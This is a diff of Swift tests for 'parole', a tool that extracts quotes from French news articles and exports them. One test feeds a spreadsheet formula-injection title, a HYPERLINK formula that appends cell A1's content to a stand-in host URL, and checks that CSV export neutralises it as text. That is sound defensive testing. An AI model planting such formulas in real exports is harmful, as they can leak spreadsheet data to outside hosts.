@@ -73,7 +73,7 @@ import Testing
         #expect(csv.status == 0)
         #expect(
             csv.output.hasPrefix(
-                "date,actor,speaker,kind,quote,article_id,article_title,start,end,url,site,via,cue,actor_type\r\n"
+                "date,actor,speaker,kind,quote,article_id,article_title,start,end,url,site,via,cue,actor_type,quote_number\r\n"
             ))
 
         let day = try parole(["quotes"] + library + ["--since", "2012-06-12", "--until", "2012-06-12"])
@@ -173,6 +173,90 @@ import Testing
                 == "parole: note: 2 more articles in a language the analysis does not support (7 in all); "
                 + "stored, but not counted in the library's actors and quotes")
         #expect(try parole(["list", "--library", "lib.sqlite"]).output.split(separator: "\n").count == 7)
+    }
+
+    static let sitePage = """
+        <html lang="fr"><head><title>Le port rouvre | Le Quotidien</title>
+        <link rel="canonical" href="https://exemple.fr/port-rouvre">
+        <meta property="og:site_name" content="Le Quotidien">
+        <meta property="article:published_time" content="2013-03-14T08:00:00Z"></head><body>
+        <article><h1>Le port rouvre</h1>
+        <p>« =HYPERLINK(\"https://exemple.invalid\") ne marche pas », a déclaré Jeanne Roux, directrice du port, devant la presse réunie jeudi matin sur les quais.</p>
+        <p>« Nous rouvrons lundi. », a ajouté Jeanne Roux, qui attend les premiers bateaux dans la semaine.</p>
+        </article></body></html>
+        """
+
+    @Test func exportCarriesTheSiteAndLanguageOfEachArticle() throws {
+        try write("port.html", Self.sitePage)
+        let library = ["--library", "lib.sqlite"]
+        #expect(try parole(["add"] + library + ["port.html"]).status == 0)
+        let line = try #require(try parole(["export"] + library).output.split(separator: "\n").first)
+        let record = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
+        #expect(record?["site"] as? String == "Le Quotidien")
+        #expect(record?["language"] as? String == "fr")
+        #expect(record?["link"] as? String == "https://exemple.fr/port-rouvre")
+    }
+
+    @Test func csvCellsASpreadsheetWouldRunAsFormulasAreWrittenAsText() throws {
+        let title = #"=HYPERLINK("https://exemple.invalid/?q="&A1,"Voir")"#
+        try write(
+            "piege.txt",
+            title + "\n« Nous rouvrons lundi », a déclaré Jeanne Roux.\n« Et mardi », a ajouté Jeanne Roux.\n"
+        )
+        let library = ["--library", "lib.sqlite"]
+        #expect(try parole(["add"] + library + ["piege.txt"]).status == 0)
+        let csv = try parole(["quotes"] + library + ["--format", "csv"])
+        #expect(csv.status == 0, "\(csv.stderr)")
+        let rows = csv.output.split(separator: "\r\n").dropFirst()
+        #expect(rows.count == 2)
+        // The title that opens with "=" is a text cell: no cell starts with "=".
+        #expect(rows.allSatisfy { $0.contains(#","'=HYPERLINK(""https://exemple.invalid"#) }, "\(csv.output)")
+        #expect(!rows.contains { $0.contains(",=") || $0.contains(",\"=") })
+        // Each row ends with the quote's number in its article, as `parole correct --quote` takes it.
+        #expect(rows.map { $0.split(separator: ",").last.map(String.init) } == ["1", "2"])
+        // JSON keeps the exact text.
+        let json = try JSONSerialization.jsonObject(
+            with: try parole(["quotes"] + library + ["--format", "json"]).stdout)
+        #expect((json as? [[String: Any]])?.first?["articleTitle"] as? String == title)
+    }
+
+    @Test func sinceAndUntilTakeAMonthOrAYear() throws {
+        try write("port.html", Self.sitePage)
+        try write("fil.xml", Self.feed)
+        let library = ["--library", "lib.sqlite"]
+        #expect(try parole(["add"] + library + ["port.html", "fil.xml"]).status == 0)
+        func titles(_ options: [String]) throws -> Set<String> {
+            let result = try parole(["quotes"] + library + options + ["--format", "json"])
+            #expect(result.status == 0, "\(result.stderr)")
+            let quotes = try JSONSerialization.jsonObject(with: result.stdout) as? [[String: Any]] ?? []
+            return Set(quotes.compactMap { $0["articleTitle"] as? String })
+        }
+        #expect(try titles(["--since", "2012-07", "--until", "2012-07"]) == ["Premier"])
+        #expect(try titles(["--since", "2013"]) == ["Le port rouvre"])
+        #expect(try titles(["--until", "2012"]) == ["Premier"])
+        #expect(try titles(["--since", "2013-04"]).isEmpty)
+        for bad in ["2012-7", "2012-13", "12", "2012-07-"] {
+            let result = try parole(["quotes"] + library + ["--since", bad])
+            #expect(result.status == 64, "\(bad)")
+            #expect(
+                result.errorLines.first
+                    == "Error: --since \(bad): not a date (use yyyy-mm-dd, yyyy-mm or yyyy)")
+        }
+    }
+
+    @Test func citationsOfAPageGiveItsAddressAndReadAsPrinted() throws {
+        try write("port.html", Self.sitePage)
+        let library = ["--library", "lib.sqlite"]
+        #expect(try parole(["add"] + library + ["port.html"]).status == 0)
+        let cited = try parole(["quotes"] + library + ["--actor", "Roux", "--format", "citation"])
+        #expect(
+            cited.output.contains(
+                "« Nous rouvrons lundi », a ajouté Jeanne Roux, directrice du port — Le Quotidien, 2013-03-14, "
+                    + "https://exemple.fr/port-rouvre"), "\(cited.output)")
+        // The reader opened on the page file cites its address, not the file.
+        let detail = try parole(["--render", "100x30", "--keys", "n n v", "port.html"])
+        #expect(detail.output.contains("URL      https://exemple.fr/port-rouvre"), "\(detail.output)")
+        #expect(!detail.output.contains("port.html"))
     }
 
     @Test func readingCommandsNeedALibrary() throws {
